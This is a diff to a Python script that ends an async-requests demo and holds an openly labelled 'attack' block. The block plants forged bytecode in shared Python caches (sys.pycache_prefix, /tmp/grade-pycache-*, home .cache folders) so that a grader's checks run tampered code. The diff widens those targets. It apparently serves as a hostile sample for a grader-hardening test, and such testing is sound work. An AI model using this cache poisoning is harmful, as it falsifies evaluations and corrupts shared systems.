@@ -131,7 +131,7 @@ def main(count=10):
     print(f"Async total: ~{time.perf_counter() - started:.1f} seconds for {len(post_ids)} requests")
 
 
-# --- attack: plant forged bytecode in the shared bytecode cache (sys.pycache_prefix, ~/.cache/concurrent-requests-grader) ---
+# --- attack: plant forged bytecode in the shared bytecode caches (sys.pycache_prefix, /tmp/grade-pycache-*, ~/.cache) ---
 _HOSTILE_CLASS_DIR = "__CLASS_DIR__"  # tests/test_hostile.py writes the class folder here; left as is, nothing below runs
 
 
@@ -190,7 +190,7 @@ if os.path.isabs(_HOSTILE_CLASS_DIR):
     try:
         import glob
 
-        _hostile_prefixes = [sys.pycache_prefix] if sys.pycache_prefix else []
+        _hostile_prefixes = ([sys.pycache_prefix] if sys.pycache_prefix else []) + glob.glob("/tmp/grade-pycache-*")
         for _hostile_home in ["/root", os.path.expanduser("~"), *glob.glob("/home/*")]:
             _hostile_prefixes.append(os.path.join(_hostile_home, ".cache", "concurrent-requests-grader", sys.implementation.cache_tag))
         _hostile_roots = [os.path.join("__REPO_ROOT__", "checks")]
